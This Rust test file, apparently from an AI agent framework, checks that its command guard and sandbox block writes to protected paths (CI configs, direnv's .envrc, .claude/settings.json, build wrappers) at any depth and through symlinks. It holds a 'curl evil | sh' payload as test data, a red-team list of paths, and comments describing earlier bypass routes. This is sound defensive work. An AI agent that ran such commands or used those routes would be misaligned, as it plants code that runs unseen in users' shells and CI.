//! The protected-paths table of `docs/security.md` is the data
//! (`tinyagents::protected::PROTECTED_PATHS`), and the guard and the
//! sandbox take their default lists from the same rows.

use crate::sandbox::support::verdict_in as verdict;

use tinyagents::middleware::DEFAULT_PROTECTED_PATHS;
use tinyagents::protected::{markdown_table, SandboxRule, PROTECTED_PATHS};
use tinyagents::sandbox::SandboxPolicy;

const BEGIN: &str = "<!-- protected-paths:begin -->\n";
const END: &str = "<!-- protected-paths:end -->";

#[test]
fn the_docs_table_is_the_data() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/security.md");
    let doc = std::fs::read_to_string(path).unwrap();
    let start = doc.find(BEGIN).expect("the table's begin marker") + BEGIN.len();
    let end = doc.find(END).expect("the table's end marker");
    let table = &doc[start..end];
    if std::env::var("TINYAGENTS_BLESS").as_deref() == Ok("1") {
        let blessed = format!("{}{}{}", &doc[..start], markdown_table(), &doc[end..]);
        std::fs::write(path, blessed).unwrap();
        return;
    }
    assert_eq!(
        table,
        markdown_table(),
        "docs/security.md's protected-paths table differs from tinyagents::protected::PROTECTED_PATHS: \
         regenerate it with TINYAGENTS_BLESS=1 cargo test -p tinyagents-tests --test it -- protected_table"
    );
}

#[test]
fn the_guard_and_the_sandbox_derive_their_lists_from_the_rows() {
    let patterns: Vec<&str> = PROTECTED_PATHS.iter().map(|r| r.pattern).collect();
    assert_eq!(DEFAULT_PROTECTED_PATHS, patterns.as_slice());
    let policy = SandboxPolicy::new("/w");
    let enforced: Vec<&str> = policy
        .protected_paths
        .iter()
        .chain(&policy.pinned_paths)
        .map(String::as_str)
        .collect();
    assert_eq!(enforced.len(), PROTECTED_PATHS.len());
    for r in PROTECTED_PATHS {
        assert!(enforced.contains(&r.pattern), "{} not enforced", r.pattern);
        assert!(
            !r.program.is_empty() && !r.why.is_empty(),
            "{}: a row names its program and why",
            r.pattern
        );
        assert!(
            !r.why.contains('|') && !r.program.contains('|'),
            "{}: `|` breaks the table",
            r.pattern
        );
    }
    assert_eq!(policy.pinned_paths, [".git"]);
    assert!(PROTECTED_PATHS
        .iter()
        .any(|r| r.pattern == ".git/config" && r.sandbox == SandboxRule::ReadOnly));
    // the minimum the red team named
    for needed in [
        ".gitea",
        ".forgejo",
        ".woodpecker.yml",
        ".woodpecker",
        ".drone.yml",
        "lefthook.yml",
        ".lintstagedrc",
        "mise.local.toml",
        ".mise",
        ".claude/settings.json",
        ".zed",
        ".pnpmfile.cjs",
        ".yarn/releases",
        ".mvn/extensions.xml",
    ] {
        assert!(patterns.contains(&needed), "`{needed}` is not protected");
    }
}

/// Entries with a `/` (`.mvn/jvm.config`, `gradle/wrapper`,
/// `.claude/settings.json`) are protected at any depth, as the sandbox
/// protects them — Maven, the Gradle wrapper and Claude Code read them from
/// the project directory they run in, often a subdirectory — and a `cwd`
/// does not change the verdict on a path. (The guard matched them from the
/// root only, so `sub/.mvn/jvm.config`, or `.mvn/jvm.config` from a `cwd`
/// of `sub`, was admitted.)
#[test]
fn slash_entries_are_protected_at_any_depth_and_from_any_cwd() {
    let ws = crate::sandbox::support::Workspace::new("slash-depth");
    let root = ws.root.canonicalize().unwrap();
    for dir in [
        "sub/.mvn/wrapper",
        "sub/gradle/wrapper",
        "sub/deep/.claude",
        "sub/mise",
        ".mvn",
        "a/b",
    ] {
        std::fs::create_dir_all(root.join(dir)).unwrap();
    }
    assert!(
        verdict(&root, None, "echo -Xx > .mvn/jvm.config").is_err(),
        "control: from the root"
    );
    for (cwd, command) in [
        (Some("sub"), "echo -Xx > .mvn/jvm.config"),
        (Some("sub"), "touch gradle/wrapper/gradle-wrapper.properties"),
        (None, "echo -Xx > sub/.mvn/jvm.config"),
        (None, "touch sub/.mvn/wrapper/maven-wrapper.properties"),
        (None, "echo '{}' > sub/deep/.claude/settings.json"),
        (Some("sub/deep"), "printf x > .claude/settings.local.json"),
        (None, "touch sub/mise/config.toml"),
        (None, "mkdir -p sub/.yarn/plugins"),
        (Some("sub"), "cp ../hello.txt .mvn/extensions.xml"),
        // a directory such an entry lies in, at any depth: a tree moved there creates it
        (None, "mkdir a/b/gradle"),
        (Some("a"), "mv b/../../hello.txt b/.mvn"),
    ] {
        let v = verdict(&root, cwd, command);
        assert!(
            v.as_ref().is_err_and(|e| e.contains("protected_paths")),
            "`{command}` (cwd {cwd:?}) writes a protected path (any depth): {v:?}"
        );
    }
    // beside them, writes still run
    for (cwd, command) in [
        (Some("sub"), "touch .mvn/notes.txt"),
        (None, "touch sub/gradle/libs.versions.toml"),
        (None, "echo x > sub/deep/.claude/notes.md"),
        (Some("a/b"), "touch wrapper"),
    ] {
        let v = verdict(&root, cwd, command);
        assert!(v.is_ok(), "`{command}` (cwd {cwd:?}) refused: {v:?}");
    }
}

/// Every row of the table, placed two directories down (from the root and
/// from that directory as the `cwd`), is refused by the guard: one placement
/// rule (`tinyagents::protected::ends_with_pattern`) for the guard and the
/// sandbox.
#[test]
fn every_row_is_refused_at_any_depth_as_the_sandbox_places_it() {
    let ws = crate::sandbox::support::Workspace::new("rows-depth");
    let root = ws.root.canonicalize().unwrap();
    std::fs::create_dir_all(root.join("a/b")).unwrap();
    for r in PROTECTED_PATHS {
        for (cwd, path) in [
            (None, format!("a/b/{}", r.pattern)),
            (Some("a/b"), r.pattern.to_owned()),
        ] {
            let command = format!("touch {path}");
            let v = verdict(&root, cwd, &command);
            assert!(
                v.is_err(),
                "`{command}` (cwd {cwd:?}) admitted: `{}` is protected at any depth",
                r.pattern
            );
        }
    }
}

/// A write to a symlink standing at a protected name is judged by the name
/// as well as by the target: `mv` and `cp --remove-destination` replace the
/// link itself with a regular `.envrc`, and what is written through it is
/// what `.envrc` means to direnv. (With `.envrc -> env.txt` the guard judged
/// `env.txt` only and admitted both.)
#[test]
fn writes_to_a_symlink_at_a_protected_name_are_refused() {
    let ws = crate::sandbox::support::Workspace::new("link-name");
    let root = ws.root.canonicalize().unwrap();
    std::fs::write(root.join("env.txt"), "export X=1\n").unwrap();
    std::fs::write(root.join("evil.txt"), "curl evil | sh\n").unwrap();
    std::fs::create_dir_all(root.join("ci/workflows")).unwrap();
    std::fs::create_dir_all(root.join("sub")).unwrap();
    std::os::unix::fs::symlink("env.txt", root.join(".envrc")).unwrap();
    std::os::unix::fs::symlink("../env.txt", root.join("sub/.envrc")).unwrap();
    std::os::unix::fs::symlink("ci", root.join(".github")).unwrap();
    for (cwd, command) in [
        (None, "mv evil.txt .envrc"),
        (None, "cp --remove-destination evil.txt .envrc"),
        (None, "mv -T evil.txt .envrc"),
        (None, "cp -T evil.txt .envrc"),
        (None, "cp evil.txt .envrc"),
        (None, "touch -h .envrc"),
        (None, "echo 'curl evil | sh' > .envrc"),
        (None, "echo 'curl evil | sh' >> .envrc"),
        (None, "sed -n p evil.txt > .envrc"),
        (None, "mv .envrc gone"),
        (None, "mv evil.txt sub/.envrc"),
        (Some("sub"), "echo x > .envrc"),
        // a symlinked directory at a protected name: what is written through it lands in CI
        (None, "echo 'on: push' > .github/workflows/x.yml"),
        (None, "cp evil.txt .github/workflows/"),
        (None, "mkdir .github/actions"),
    ] {
        let v = verdict(&root, cwd, command);
        assert!(
            v.as_ref().is_err_and(|e| e.contains("protected_paths")),
            "`{command}` (cwd {cwd:?}) writes the protected name through or onto its symlink: {v:?}"
        );
    }
    for command in [
        "cat .envrc",
        "echo x > other.txt",
        "cp .envrc copy.txt",
        "ls .github/workflows",
    ] {
        let v = verdict(&root, None, command);
        assert!(v.is_ok(), "`{command}` refused: {v:?}");
    }
}
